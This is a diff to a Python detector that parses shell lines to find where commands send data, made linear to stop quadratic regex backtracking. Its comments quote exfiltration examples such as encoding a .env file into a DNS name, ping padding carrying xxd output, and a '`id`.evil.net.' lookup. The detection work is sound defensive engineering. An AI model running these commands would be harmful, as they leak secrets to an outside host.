@@ -350,8 +350,8 @@ _WHICH = re.compile(
     r"`\s*+(?:which|command\s++-v)\s++([\w.-]++)\s*+`|\$\(\s*+(?:which|command\s++-v)\s++([\w.-]++)\s*+\)"
 )
 _ESCAPED_WORD = re.compile(
-    r"\$'((?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}|[^'\\])++)'|"
-    r"\$\(\s*+printf\s++'((?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})++)'\s*+\)"
+    r"\$'((?>(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}|[^'\\])+))'|"
+    r"\$\(\s*+printf\s++'((?>(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})+))'\s*+\)"
 )
 
 
@@ -843,9 +843,9 @@ def _destinations(name: str, words: list[str], command: _Command) -> tuple[list[
     elif name in ("dig", "nslookup", "host", "drill", "resolvectl", "ping", "ping6", "getent"):
         # A name built from a command's output ("$(cat .env | base64).x.example"): the words
         # of the substitution are split apart, so the line is read as written.
-        built = _BUILT_NAME.search(line)
+        built = _built_name(line)
         if built:
-            out.append((built.group(1), f"a DNS query carrying data ({name})"))
+            out.append((built, f"a DNS query carrying data ({name})"))
             return out, True
         if name in ("ping", "ping6") and re.search(r"\s-p\s*+(?:\$\(|`|\$\{?\w)", line):
             # ping -p $(xxd -p .env) host: the packets' padding carries the data.
@@ -919,10 +919,30 @@ def _destinations(name: str, words: list[str], command: _Command) -> tuple[list[
     return out, sends
 
 
-_TCL_SOCKET = re.compile(r"\bsocket\s++(?:-\w++\s++)*+([A-Za-z0-9-]++(?:\.[A-Za-z0-9-]++)++)\s++\d{1,5}\b")
-_BUILT_NAME = re.compile(
-    r"(?:\$\((?:[^()]|\([^()]*+\))*+\)|`[^`]*+`|\$\{?\w++\}?)[\w.-]*?\.((?:[A-Za-z0-9-]++\.)++[A-Za-z]{2,63})\b"
-)
+_TCL_SOCKET = re.compile(r"\bsocket\s++(?>(?:-\w++\s++)*)([A-Za-z0-9-]++(?>(?:\.[A-Za-z0-9-]++)+))\s++\d{1,5}\b")
+# A substitution ($(…), `…`, $VAR) and the rest of the word glued to it. Its name is read in
+# _built_name, not by the pattern: a pattern that found the domain inside that rest itself gave
+# labels back from every dot, quadratic in a line of "a.a.a…" (a megabyte of such lines took
+# a minute). The substitution's group is atomic, not a possessive repetition: Python 3.11 before
+# 3.11.5 matched those wrongly (gh-106052).
+_BUILT_NAME = re.compile(r"(?:\$\((?>(?:[^()]|\([^()]*+\))*)\)|`[^`]*+`|\$\{?\w++\}?)([\w.-]*+)")
+# A domain read backwards from its end: an alphabetic top-level label, then whole labels of
+# letters, digits and hyphens (a label with "_" or "~" in it ends the name).
+_DOMAIN_REVERSED = re.compile(r"[A-Za-z]{2,63}(?=\.|\Z)(?:\.[A-Za-z0-9-]+(?=\.|\Z))*")
+
+
+def _built_name(line: str) -> str | None:
+    """The domain of a name built from a substitution ("$(cat .env | base64).x.example",
+    "`id`.evil.net." with the root's dot): the whole labels before the end of the word glued
+    to the first substitution that has such a domain after a dot; None without one. Linear
+    in the line: each word is read once, backwards, from its end."""
+    for match in _BUILT_NAME.finditer(line):
+        # What is glued before the first dot ("$(id)-x.") is not the name.
+        name = match.group(1).rstrip(".").partition(".")[2]
+        domain = _DOMAIN_REVERSED.match(name[::-1])
+        if domain and "." in domain.group():
+            return domain.group()[::-1]
+    return None
 # Package tools and the verbs with which they send (publish); their index options.
 _PUBLISHERS = {
     "pip": {"upload"}, "pip3": {"upload"}, "uv": {"publish"}, "poetry": {"publish"}, "twine": {"upload"},
@@ -1071,9 +1091,12 @@ def _service(host: str, line: str) -> str | None:
     canonical = canonical_host(host) if host else None
     name = canonical.name if canonical else (host or "").lower()
     # The first of _SERVICE_HOSTS that is the name or a name above it, found by looking up
-    # each of those names (not by comparing with every service).
+    # each of those names (not by comparing with every service). Only the names of as many
+    # labels as a service's have: joining every suffix of a name built of thousands of
+    # labels was quadratic.
     labels = name.split(".")
-    listed = [_SERVICE_ORDER[n] for n in (".".join(labels[i:]) for i in range(len(labels))) if n in _SERVICE_ORDER]
+    suffixes = (".".join(labels[i:]) for i in range(max(0, len(labels) - _SERVICE_LABELS), len(labels)))
+    listed = [_SERVICE_ORDER[n] for n in suffixes if n in _SERVICE_ORDER]
     if listed:
         return _SERVICE_HOSTS[min(listed)]
     lowered = line.lower()
@@ -1083,6 +1106,7 @@ def _service(host: str, line: str) -> str | None:
 
 
 _SERVICE_ORDER = {service: i for i, service in reversed(list(enumerate(_SERVICE_HOSTS)))}
+_SERVICE_LABELS = max(service.count(".") + 1 for service in _SERVICE_HOSTS)
 _ANY_SERVICE_URL = re.compile("|".join(map(re.escape, _SERVICE_URLS)))
 
 
